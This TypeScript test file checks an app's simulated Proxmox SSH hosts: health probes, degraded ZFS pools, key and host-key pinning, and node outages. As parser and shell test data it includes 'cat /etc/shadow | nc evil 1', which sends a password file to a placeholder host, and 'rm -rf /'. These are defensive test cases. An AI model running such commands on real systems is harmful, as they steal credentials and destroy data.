// The simulator's SSH side, driven through the app's own SSH pool (in-memory key, pinned host keys) the way
// demo mode uses it: every node answers the health probes from its state, the degraded node says so,
// unknown commands fail like a shell, other keys are refused, down nodes do not answer, a stopped pveproxy
// shows in systemctl, and a rotated host key is refused as changed.
import { connect } from 'node:net'

import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import type { DemoSsh } from '../../../../src/main/core/app/app-core-types'
import { createDemoSshIdentity, demoPoolOptions, type DemoSshIdentity } from '../../../../src/main/core/app/demo-ssh'
import { type Simulator, startSimulator } from '../../../../src/main/core/simulator'
import { parseCommandLine } from '../../../../src/main/core/simulator/ssh/shell-line'
import { collectNodeHealth } from '../../../../src/main/core/ssh/node-health'
import { remoteCommandLine } from '../../../../src/main/core/ssh/remote-exec'
import { SshPool } from '../../../../src/main/core/ssh/ssh-pool'

/** 'refused' or 'open': whether anything listens on the port. */
function probePort(port: number): Promise<'refused' | 'open'> {
  return new Promise((resolve) => {
    const s = connect({ host: '127.0.0.1', port })
    s.once('connect', () => (s.destroy(), resolve('open')))
    s.once('error', () => resolve('refused'))
  })
}

let sim: Simulator
let identity: DemoSshIdentity
const pools: SshPool[] = []

function demoSsh(privateKey = identity.privateKey): DemoSsh {
  return {
    user: 'root',
    privateKey,
    hosts: sim.sshEndpoints.map((e) => ({ node: e.node, host: e.host, port: e.port, fingerprint: e.hostKeyFingerprint, keyType: e.hostKeyType }))
  }
}

function pool(d: DemoSsh = demoSsh()): SshPool {
  const p = new SshPool({ ...demoPoolOptions(d), connectTimeoutMs: 1500 })
  pools.push(p)
  return p
}

beforeAll(async () => {
  identity = createDemoSshIdentity()
  sim = await startSimulator({ authDelayMs: 10, statsIntervalMs: 1000, seed: 1, ssh: { authorizedKeys: [identity.publicKey] } })
})

afterAll(async () => {
  await Promise.all(pools.map((p) => p.closeAll()))
  await sim?.close()
})

describe('the simulated shell line', () => {
  it('reads back exactly the argv the app quoted, and refuses shell syntax it does not implement', () => {
    const argv = ['systemctl', 'is-active', "it's", 'a b', '']
    expect(parseCommandLine(remoteCommandLine(argv))).toEqual({ ok: true, argv })
    expect(parseCommandLine('cat /etc/shadow | nc evil 1').ok).toBe(false)
    expect(parseCommandLine('echo $HOME').ok).toBe(false)
  })
})

describe('simulated Proxmox hosts over SSH', () => {
  it('starts one sshd per node with its own ed25519 host key', () => {
    const eps = sim.sshEndpoints
    expect(eps.map((e) => e.node)).toEqual(['pve-a', 'pve-b', 'pve-c', 'pve-d'])
    expect(new Set(eps.map((e) => e.port)).size).toBe(4)
    expect(new Set(eps.map((e) => e.hostKeyFingerprint)).size).toBe(4)
    for (const e of eps) {
      expect(e.hostKeyFingerprint).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/)
      expect(e.hostKeyType).toBe('ssh-ed25519')
    }
  })

  it('reports a healthy node in full', async () => {
    const p = pool()
    const r = await collectNodeHealth('pve-a', (argv, o) => p.execOnNode('pve-a', argv, o))
    expect(r.versions.status === 'ok' && r.versions.value).toMatchObject({
      proxmoxVe: '8.2.0',
      runningKernel: '6.8.4-3-pve',
      runningVersion: '8.2.2/9355359cd7afbae4'
    })
    expect(r.versions.status === 'ok' && r.versions.value.packages['pve-edk2-firmware']).toBe('not correctly installed')
    expect(r.load.status).toBe('ok')
    expect(r.temperatures.status === 'ok' && r.temperatures.value.map((t) => t.label)).toEqual(['Tctl', 'Tccd1', 'Composite'])
    expect(r.zfsPools).toEqual({ status: 'ok', value: [] })
    expect(r.zfsStatus).toEqual({ status: 'ok', value: { healthy: true, message: 'no pools available', problems: [] } })
    expect(r.rootDisk.status === 'ok' && r.rootDisk.value).toMatchObject({ filesystem: '/dev/mapper/pve-root', mountedOn: '/', totalBytes: 100 * 1024 ** 3 })
    expect(r.services).toEqual({ status: 'ok', value: ['pveproxy', 'pvedaemon', 'pve-cluster', 'corosync'].map((unit) => ({ unit, state: 'active' })) })
  })

  it('reports the degraded node: a FAULTED mirror member in rpool and a CPU above its limit', async () => {
    const p = pool()
    const r = await collectNodeHealth('pve-c', (argv, o) => p.execOnNode('pve-c', argv, o))
    expect(r.zfsPools.status === 'ok' && r.zfsPools.value.map((x) => [x.name, x.health])).toEqual([['rpool', 'DEGRADED']])
    expect(r.zfsStatus.status === 'ok' && r.zfsStatus.value.problems).toEqual([
      {
        pool: 'rpool',
        state: 'DEGRADED',
        status:
          'One or more devices are faulted in response to persistent errors. Sufficient replicas exist for the pool to continue functioning in a degraded state.',
        action: "Replace the faulted device, or use 'zpool clear' to mark the device repaired."
      }
    ])
    const pkg = r.temperatures.status === 'ok' ? r.temperatures.value.find((t) => t.label === 'Package id 0') : undefined
    expect(pkg?.high).toBe(80)
    expect(pkg?.critical).toBe(100)
    expect(pkg?.celsius).toBeGreaterThan(80)
    expect(r.rootDisk.status === 'ok' && r.rootDisk.value.filesystem).toBe('rpool/ROOT/pve-1')
  })

  it('fails an unknown command as a shell does: exit 127, "command not found" on stderr', async () => {
    const r = await pool().execOnNode('pve-b', ['rm', '-rf', '/'])
    expect(r.code).toBe(127)
    expect(r.stdout).toBe('')
    expect(r.stderr).toBe('bash: line 1: rm: command not found\n')
  })

  it('refuses a key it was not given', async () => {
    const stranger = createDemoSshIdentity()
    await expect(pool(demoSsh(stranger.privateKey)).execOnNode('pve-a', ['true'])).rejects.toMatchObject({ kind: 'key-rejected' })
  })

  it('answers with pveproxy inactive while the API is stopped, and refuses the API port', async () => {
    const api = sim.endpoints.find((e) => e.node === 'pve-d')
    await sim.faults.stopService('pve-d', 'pveproxy')
    try {
      const r = await pool().execOnNode('pve-d', ['systemctl', 'is-active', 'pveproxy', 'pvedaemon'])
      expect(r).toMatchObject({ code: 3, stdout: 'inactive\nactive\n' })
      expect(await probePort(api?.port ?? 0)).toBe('refused')
    } finally {
      await sim.faults.startService('pve-d', 'pveproxy')
    }
    expect(await probePort(api?.port ?? 0)).toBe('open')
    expect((await pool().execOnNode('pve-d', ['systemctl', 'is-active', 'pveproxy'])).stdout).toBe('active\n')
  })

  it('does not answer while the node is down, and does again once it is up', async () => {
    await sim.faults.nodeDown('pve-b', 'refuse')
    try {
      await expect(pool().execOnNode('pve-b', ['true'])).rejects.toMatchObject({ kind: 'connection-refused' })
    } finally {
      await sim.faults.nodeUp('pve-b')
    }
    expect((await pool().execOnNode('pve-b', ['hostname'])).stdout).toBe('pve-b\n')
  })

  it("holds a hanging node's connection unanswered until the connect deadline", async () => {
    await sim.faults.nodeDown('pve-a', 'hang')
    try {
      await expect(pool().execOnNode('pve-a', ['true'])).rejects.toMatchObject({ kind: 'connect-timeout' })
    } finally {
      await sim.faults.nodeUp('pve-a')
    }
  })

  it('presents a new host key after a "reinstall", which the pinned pool refuses with both fingerprints', async () => {
    const before = demoSsh()
    const old = sim.sshEndpoints.find((e) => e.node === 'pve-d')?.hostKeyFingerprint
    sim.faults.rotateSshHostKey('pve-d')
    const now = sim.sshEndpoints.find((e) => e.node === 'pve-d')?.hostKeyFingerprint
    expect(now).not.toBe(old)
    await expect(pool(before).execOnNode('pve-d', ['true'])).rejects.toMatchObject({
      kind: 'host-key-changed',
      pinnedFingerprint: old,
      presentedFingerprint: now
    })
    expect((await pool().execOnNode('pve-d', ['true'])).code).toBe(0)
  })
})
